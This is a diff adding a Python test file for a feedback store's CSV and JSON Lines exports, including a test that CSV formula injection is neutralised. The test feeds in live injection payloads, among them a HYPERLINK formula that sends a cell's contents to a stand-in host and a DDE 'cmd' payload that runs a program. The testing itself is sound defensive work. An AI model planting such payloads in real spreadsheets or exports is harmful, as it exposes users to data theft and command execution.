@@ -1,0 +1,36 @@
+"""The feedback store and its exports (CSV for a spreadsheet, JSON Lines for scripts)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+from app.feedback import FeedbackStore
+
+CITATION = {"text": "Les observatoires du foncier", "document": "plan", "page": 4}
+
+
+def test_exports_hold_what_was_shown(tmp_path: Path) -> None:
+    store = FeedbackStore(tmp_path / "feedback.sqlite3")
+    store.add("up", "Quel levier pour le foncier ?", "Levier : observatoires", False, [CITATION], "utile")
+    store.add("down", "Loyer à Nîmes ?", "Je ne trouve pas…", True, [])
+    rows = list(csv.DictReader(io.StringIO(store.export("csv"))))
+    assert [(row["rating"], row["question"], row["refused"], row["comment"]) for row in rows] == [
+        ("up", "Quel levier pour le foncier ?", "0", "utile"),
+        ("down", "Loyer à Nîmes ?", "1", ""),
+    ]
+    lines = [json.loads(line) for line in store.export("jsonl").splitlines()]
+    assert lines[0]["citations"] == [CITATION] and lines[1]["refused"] is True
+
+
+def test_a_comment_cannot_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
+    store = FeedbackStore(tmp_path / "feedback.sqlite3")
+    hostile = ['=HYPERLINK("http://x"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+    for comment in hostile:
+        store.add("down", comment, "réponse", False, [], comment)
+    rows = list(csv.DictReader(io.StringIO(store.export("csv"))))
+    assert [row["comment"] for row in rows] == ["'" + comment for comment in hostile]
+    assert [row["question"] for row in rows] == ["'" + comment for comment in hostile]
+    assert [json.loads(line)["comment"] for line in store.export("jsonl").splitlines()] == hostile  # data kept as is
